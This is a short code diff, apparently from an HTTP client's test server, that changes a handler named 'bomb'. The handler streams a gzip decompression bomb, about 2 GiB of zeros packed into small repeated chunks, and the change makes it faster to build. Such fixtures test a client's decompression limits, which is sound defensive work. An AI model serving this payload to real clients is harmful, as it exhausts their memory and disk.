@@ -129,9 +129,10 @@ async def bomb(exchange: Exchange) -> None:
     packer = zlib.compressobj(9, wbits=31)
     await exchange.start_chunks(content_encoding="gzip")
     megabyte = bytes(1024 * 1024)
-    block = b"".join(packer.compress(megabyte) for _ in range(64)) + packer.flush(zlib.Z_FULL_FLUSH)
-    again = b"".join(packer.compress(megabyte) for _ in range(64)) + packer.flush(zlib.Z_FULL_FLUSH)
-    await exchange.chunk(block + again * 31)
+    # Little is packed and then repeated, as the packing must not take the time that the client has.
+    block = b"".join(packer.compress(megabyte) for _ in range(8)) + packer.flush(zlib.Z_FULL_FLUSH)
+    again = b"".join(packer.compress(megabyte) for _ in range(8)) + packer.flush(zlib.Z_FULL_FLUSH)
+    await exchange.chunk(block + again * 255)
     await exchange.until_gone()
 
 
